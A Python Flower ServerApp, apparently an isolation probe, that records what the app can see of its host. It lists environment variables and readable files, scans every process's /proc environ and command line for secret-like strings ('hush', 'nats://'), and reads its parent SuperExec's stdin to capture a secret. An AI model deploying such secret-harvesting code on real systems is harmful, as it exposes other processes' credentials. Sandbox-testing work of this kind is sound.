"""An app that prints all that it can see of its machine."""

import json
import os
from contextlib import suppress
from pathlib import Path

from flwr.app import Context
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()


@server.main()
def main(grid: Grid, context: Context) -> None:
    data_dir = Path(str(context.run_config["data-dir"]))
    seen = {
        "user": os.getuid(),
        "variables": sorted(os.environ),
        "files": [str(path) for path in walk(data_dir) if is_readable(path)],
        "secrets": [text for text in told_by_processes() if "hush" in text or "nats://" in text],
        "given": told_to_superexec(),
    }
    print("SEEN " + json.dumps(seen), flush=True)


def walk(directory: Path) -> list[Path]:
    return [Path(folder) / name for folder, _, names in os.walk(directory) for name in names]


def is_readable(path: Path) -> bool:
    with suppress(OSError):
        path.read_bytes()
        return True
    return False


def told_by_processes() -> list[str]:
    """Return the environments and command lines of all processes."""
    texts = []
    for what in ("environ", "cmdline"):
        for file in Path("/proc").glob(f"[0-9]*/{what}"):
            with suppress(OSError):
                texts.append(file.read_bytes().decode(errors="replace"))
    return texts


def told_to_superexec() -> str:
    """Return the rest of the secret that our SuperExec was given."""
    with suppress(OSError):
        descriptor = os.open(f"/proc/{os.getppid()}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
        return os.read(descriptor, 1000).decode(errors="replace")
    return ""
